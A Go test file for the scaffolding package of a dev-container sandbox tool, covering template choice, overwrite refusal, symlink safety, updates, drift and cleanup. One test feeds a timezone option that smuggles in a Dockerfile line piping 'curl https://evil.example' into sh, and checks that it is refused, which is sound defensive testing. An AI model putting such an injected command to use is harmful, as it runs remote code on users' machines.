package scaffold

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/internal/diag"
	"github.com/org/claude-sandbox/internal/exitcode"
	"github.com/org/claude-sandbox/internal/test/testenv"
	"github.com/org/claude-sandbox/templates"
	"github.com/org/claude-sandbox/templates/detect"
	"github.com/org/claude-sandbox/templates/lock"
	"github.com/org/claude-sandbox/templates/merge"
)

// node is what a project with Node speaks for, and a host that one of its files
// names.
var node = detect.Report{
	Template: detect.Proposal{Value: "claude-node"},
	Presets:  []detect.Proposal{{Value: "npm"}},
	Hosts:    []detect.Proposal{{Value: "evil.example"}},
}

func TestChoose(t *testing.T) {
	for _, tt := range []struct {
		name    string
		request Request
		report  detect.Report
		want    string // template, presets, allow
	}{
		{"NothingSaid", Request{}, detect.Report{}, "claude [] []"},
		{"ProjectProposes", Request{}, node, "claude-node [npm] []"},
		{"RequestWins", Request{Template: "claude-go", Presets: []string{"npm", "rust"}, Allow: []string{"a.example"}}, node,
			"claude-go [npm rust] [a.example]"},
		{"SidecarIsATemplate", Request{Topology: "sidecar"}, node, "claude-strict [npm] []"},
		{"SingleIsTheProjects", Request{Topology: "single"}, node, "claude-node [npm] []"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			in, err := Choose(tt.request, tt.report)
			got := in.Template + " [" + strings.Join(in.Presets, " ") + "] [" + strings.Join(in.Allow, " ") + "]"
			if err != nil || got != tt.want {
				t.Errorf("got %s (%v), want %s", got, err, tt.want)
			}
		})
	}
	for name, r := range map[string]Request{
		"sidecar of another template": {Topology: "sidecar", Template: "claude-go"},
		"single of two containers":    {Topology: "single", Template: "claude-strict"},
		"unknown topology":            {Topology: "both"},
		"option without value":        {Options: []string{"timezone"}},
		"list file":                   {Allow: []string{"@hosts.txt"}},
		"unknown preset":              {Presets: []string{"nosuch"}},
		"no host":                     {Allow: []string{"a b"}},
	} {
		if _, err := Choose(r, node); !isCode(err, exitcode.Usage) || diag.HintOf(err) == "" {
			t.Errorf("%s: %v, hint %q; want exitcode.Usage with a hint", name, err, diag.HintOf(err))
		}
	}
}

// written makes a project with the dev container of a template.
func written(t *testing.T, in lock.Input) Folder {
	t.Helper()
	dir := Folder(t.TempDir())
	draft, err := New(dir, in, false)
	if err != nil {
		t.Fatal(err)
	}
	files, _, err := draft.Write(false)
	if err != nil || len(files) != len(draft.Files) {
		t.Fatal(len(files), err)
	}
	return dir
}

func edit(t *testing.T, dir Folder, name, old, text string) {
	t.Helper()
	before := string(dir.Read(name))
	if !strings.Contains(before, old) {
		t.Fatalf("%s does not hold %q:\n%s", name, old, before)
	}
	if err := os.WriteFile(dir.Path(name), []byte(strings.Replace(before, old, text, 1)), 0o644); err != nil {
		t.Fatal(err)
	}
}

// snapshot is every file and folder below dir with its content.
func snapshot(t *testing.T, dir Folder) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(string(dir), func(path string, entry os.DirEntry, err error) error {
		text, _ := os.ReadFile(path)
		out[path] = string(text)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func equal(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || v != w {
			return false
		}
	}
	return true
}

func TestFilesOfAnotherFormAreKept(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	edit(t, dir, ConfigPath, "{", "{ // mine\n")
	if err := os.Remove(dir.Path(".devcontainer/Dockerfile")); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, dir)
	draft, err := New(dir, lock.Input{Template: "claude"}, false)
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = draft.Write(false)
	if !isCode(err, exitcode.Refused) || !errors.Is(err, templates.ErrExists) ||
		!strings.Contains(diag.HintOf(err), "'sbx-devc update' keeps your edits") {
		t.Errorf("%v, hint %q", err, diag.HintOf(err))
	}
	if !equal(before, snapshot(t, dir)) {
		t.Error("a refusal has changed the folder")
	}
	files, _, err := draft.Write(true)
	if err != nil || len(files) != 2 || dir.Read(".devcontainer/Dockerfile") == nil {
		t.Errorf("overwriting: %d files, %v", len(files), err)
	}
}

func TestNothingIsWrittenThroughALink(t *testing.T) {
	outside := t.TempDir()
	for _, link := range []string{".devcontainer", ".devcontainer/Dockerfile"} {
		dir := Folder(t.TempDir())
		if err := os.MkdirAll(filepath.Dir(dir.Path(link)), 0o755); err != nil {
			t.Fatal(err)
		}
		testenv.Symlink(t, outside, dir.Path(link))
		if _, err := New(dir, lock.Input{Template: "claude"}, true); !isCode(err, exitcode.Refused) {
			t.Errorf("%s: %v", link, err)
		}
	}
	if entries, err := os.ReadDir(outside); err != nil || len(entries) > 0 {
		t.Errorf("written outside: %v, %v", entries, err)
	}
}

func TestOptionThatMakesItInvalidIsRefused(t *testing.T) {
	for _, options := range []map[string]string{{"nosuch": "x"}, {"timezone": "\nRUN curl https://evil.example | sh"}} {
		if _, err := New(Folder(t.TempDir()), lock.Input{Template: "claude", Options: options}, false); !isCode(err, exitcode.Usage) {
			t.Errorf("%v: %v", options, err)
		}
	}
}

func TestPlainConfigurationIsInTheWay(t *testing.T) {
	dir := Folder(t.TempDir())
	if err := os.WriteFile(dir.Path(".devcontainer.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	if dir.Existing() != Plain {
		t.Error(dir.Existing())
	}
	if _, err := New(dir, lock.Input{Template: "claude"}, false); !isCode(err, exitcode.Refused) {
		t.Error(err)
	}
	// Replaced, it is no second dev container, and nothing of it is lost.
	draft, err := New(dir, lock.Input{Template: "claude"}, true)
	if err != nil {
		t.Fatal(err)
	}
	holds := func(name, want string) {
		t.Helper()
		if got := dir.Read(name); string(got) != want {
			t.Errorf("%s holds %q", name, got)
		}
	}
	if err := os.WriteFile(dir.Path(".devcontainer"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := draft.Write(true); err == nil {
		t.Error("written over a file in the place of the folder")
	}
	holds(".devcontainer.json", "{}")
	if err := os.Remove(dir.Path(".devcontainer")); err != nil {
		t.Fatal(err)
	}
	if _, notes, err := draft.Write(true); err != nil || !slices.Contains(notes, draft.Moves()) {
		t.Error(notes, err)
	}
	holds(".devcontainer.json.old", "{}")
	if info, err := os.Lstat(dir.Path(".devcontainer.json")); err != nil || !info.IsDir() {
		t.Error("no folder is there for the container to cover", err)
	}
	if again, err := New(dir, lock.Input{Template: "claude"}, true); err != nil || len(dir.Changed(again.Files)) > 0 || again.Moves() != "" {
		t.Errorf("a second time: %v", err)
	}
	// One that is there a second time would take the place of the first.
	if err := errors.Join(os.Remove(dir.Path(".devcontainer.json")),
		os.WriteFile(dir.Path(".devcontainer.json"), []byte("[]"), 0o644)); err != nil {
		t.Fatal(err)
	}
	if _, err := New(dir, lock.Input{Template: "claude"}, true); !isCode(err, exitcode.Refused) {
		t.Error(err)
	}
}

func TestUpdateKeepsEditsAndSettles(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	edit(t, dir, ConfigPath, "{", "{\n  // mine\n")
	d, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, wish := range []Wish{{}, {Check: true}, {Rescan: true}} {
		if u, err := d.Update(wish); err != nil || len(u.Files) > 0 || !slices.Equal(u.Edited, []string{ConfigPath}) {
			t.Errorf("%+v: %+v, %v", wish, u, err)
		}
	}
	u, err := d.Update(Wish{Options: []string{"timezone=Europe/Berlin"}})
	if err != nil || len(u.Files) == 0 || len(u.Conflicts) > 0 {
		t.Fatal(u, err)
	}
	if _, err := dir.Write(u.Seen, u.Files, true); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(dir.Read(ConfigPath)), "// mine") ||
		!strings.Contains(string(dir.Read(".devcontainer/Dockerfile")), "Europe/Berlin") {
		t.Errorf("%s\n%s", dir.Read(ConfigPath), dir.Read(".devcontainer/Dockerfile"))
	}
	if d, err = Open(dir); err != nil {
		t.Fatal(err)
	}
	if u, err := d.Update(Wish{}); err != nil || len(u.Files) > 0 {
		t.Errorf("a second update changes %+v, %v", u, err)
	}
	if _, err := d.Update(Wish{Options: []string{"nosuch=1"}}); !isCode(err, exitcode.Usage) {
		t.Error(err)
	}
}

func TestConflictIsListedAndPreferenceDecides(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	edit(t, dir, ".devcontainer/Dockerfile", "TZ=", "TZ=Asia/Tokyo # ")
	d, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	wish := Wish{Options: []string{"timezone=Europe/Berlin"}}
	if u, err := d.Update(wish); err != nil || len(u.Conflicts) != 1 || u.Conflicts[0].Path != ".devcontainer/Dockerfile" {
		t.Errorf("%+v, %v", u, err)
	}
	wish.Prefer = merge.Mine
	if u, err := d.Update(wish); err != nil || len(u.Conflicts) != 0 {
		t.Errorf("%+v, %v", u, err)
	}
}

func TestDrift(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	edit(t, dir, ConfigPath, "{", "{ // mine\n")
	d, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if found, err := d.Drift(); err != nil || len(found.Findings) > 0 || !slices.Equal(found.Edited, []string{ConfigPath}) {
		t.Errorf("an edit: %+v, %v", found, err)
	}
	if err := os.Remove(dir.Path(".devcontainer/Dockerfile")); err != nil {
		t.Fatal(err)
	}
	if d, err = Open(dir); err != nil {
		t.Fatal(err)
	}
	if found, err := d.Drift(); err != nil || !slices.Contains(found.Findings, ".devcontainer/Dockerfile: is missing") {
		t.Errorf("a missing file: %+v, %v", found, err)
	}
}

func TestErrorsThatFilesBring(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	if worse := dir.Worse([]templates.File{{Path: ConfigPath, Content: dir.Read(ConfigPath)}}); worse != nil {
		t.Errorf("the same file: %v", worse)
	}
	if worse := dir.Worse([]templates.File{{Path: ConfigPath, Content: []byte(`{"image": 1}`)}}); len(worse) == 0 {
		t.Error("a wrong type is no error")
	}
}

func TestLockThatCannotBeRead(t *testing.T) {
	empty := Folder(t.TempDir())
	if _, err := Open(empty); err == nil || diag.HintOf(err) == "" {
		t.Errorf("none: %v", err)
	}
	dir := written(t, lock.Input{Template: "claude"})
	if err := os.Rename(dir.Path(lock.Path), filepath.Join(string(dir), "lock")); err != nil {
		t.Fatal(err)
	}
	testenv.Symlink(t, "../lock", dir.Path(lock.Path))
	if _, err := Open(dir); err == nil || errors.Is(err, ErrExtended) {
		t.Errorf("a link: %v", err)
	}
}

// asked answers for every image.
type asked struct{ fails error }

func (a asked) Digest(context.Context, string) (string, error) {
	return "sha256:" + strings.Repeat("1", 64), a.fails
}
func (a asked) Manifest(context.Context, string) (string, []byte, error) {
	return "", nil, errors.New("no Feature")
}

func TestRenew(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	p, err := OpenPinned(dir)
	if err != nil {
		t.Fatal(err)
	}
	stale, unknown, err := p.Stale()
	if err != nil || len(stale) > 0 || len(unknown) == 0 {
		t.Errorf("as init leaves it: %q %q %v", stale, unknown, err)
	}
	if _, failed := p.Renew(t.Context(), asked{errors.New("down")}); len(failed) == 0 {
		t.Error("a registry that is down fails nothing")
	}
	files, failed := p.Renew(t.Context(), asked{})
	if len(failed) > 0 || len(files) != 1 || !strings.Contains(string(files[0].Content), strings.Repeat("1", 64)) {
		t.Errorf("%q %v", files, failed)
	}
	if _, err := dir.Write(templates.Observation{}, files, true); err != nil {
		t.Fatal(err)
	}
	if p, err = OpenPinned(dir); err != nil {
		t.Fatal(err)
	}
	if stale, unknown, err := p.Stale(); err != nil || len(stale)+len(unknown) > 0 {
		t.Errorf("renewed: %q %q %v", stale, unknown, err)
	}
}

// The folders that clean removes are empty and were made by a run.
func TestEmptyFoldersGoAndOthersStay(t *testing.T) {
	dir := written(t, lock.Input{Template: "claude"})
	if err := os.WriteFile(dir.Path(".vscode/settings.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	removed, err := dir.RemoveFolders()
	if err != nil || !slices.Contains(removed, ".idea") || slices.Contains(removed, ".vscode") || slices.Contains(removed, ".devcontainer") {
		t.Errorf("%q, %v", removed, err)
	}
	if _, err := os.Stat(dir.Path(".vscode/settings.json")); err != nil {
		t.Error(err)
	}
	if again, err := dir.RemoveFolders(); err != nil || len(again) > 0 {
		t.Errorf("%q, %v", again, err)
	}
}

func isCode(err error, code int) bool {
	got, _ := exitcode.Of(err, exitcode.Internal)
	return got == code
}
